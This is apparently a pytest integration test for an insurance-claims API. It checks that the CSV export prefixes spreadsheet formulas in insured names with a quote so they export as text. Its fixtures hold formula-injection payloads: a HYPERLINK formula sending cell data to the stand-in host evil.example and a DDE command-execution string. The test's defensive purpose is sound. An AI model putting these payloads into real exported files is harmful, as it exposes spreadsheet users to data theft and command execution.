"""The CSV export cannot execute: an insured declared with a spreadsheet formula as a name comes out as text."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import psycopg
import pytest
from fastapi.testclient import TestClient

from ipe_claims.application.claims import ClaimsApplication
from ipe_claims.settings import Settings
from tests.conftest import declare
from tests.integration.conftest import Pipeline, api_client
from tests.integration.test_api import decided, employer_of, submit

pytestmark = pytest.mark.integration
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'


@pytest.fixture(scope="module")
def client(settings: Settings, claims_app: ClaimsApplication) -> Iterator[TestClient]:
    with api_client(settings, claims_app) as test_client:
        yield test_client


def test_a_formula_in_the_insureds_name_is_exported_as_text(
    pipeline: Pipeline, client: TestClient, conn: psycopg.Connection[Any]
) -> None:
    insured = declare(conn, months=40)
    names = {"nom": FORMULA, "prenoms": "+cmd|' /C calc'!A0", "cin": "@SUM(1+1)"}
    conn.execute("UPDATE insured SET nom = %(nom)s, prenoms = %(prenoms)s, cin = %(cin)s "
                 "WHERE immatriculation = %(imm)s", names | {"imm": insured.immatriculation})  # fmt: skip
    employer = employer_of(client, conn, insured)
    claim_id = submit(client, employer, insured)
    decided(client, employer, claim_id)
    exported = client.get("/api/v1/claims", headers=employer.headers | {"Accept": "text/csv"})
    assert exported.status_code == 200
    assert f'"\'{FORMULA.replace(chr(34), chr(34) * 2)}"' in exported.text  # quoted, quotes doubled, then '
    header, row = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    shown = dict(zip(header, row, strict=True))
    assert (shown["Nom"], shown["Prénoms"], shown["C.I.R."]) == (
        f"'{FORMULA}",
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
    )
    assert shown["Numero Affecté"] == claim_id  # the other cells as they were
    listed = client.get("/api/v1/claims", headers=employer.headers).json()["items"]
    assert (
        listed[0]["nom"] == FORMULA
    )  # JSON carries the name as declared: only the spreadsheet file is guarded
